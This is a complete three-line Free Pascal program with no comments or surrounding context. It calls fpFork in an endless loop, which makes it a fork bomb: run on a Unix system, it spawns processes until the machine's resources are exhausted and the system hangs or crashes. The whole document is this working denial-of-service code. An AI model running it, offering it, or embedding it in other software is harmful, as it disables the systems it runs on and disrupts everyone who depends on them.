uses BaseUnix;
begin
  while true do fpFork;
end.
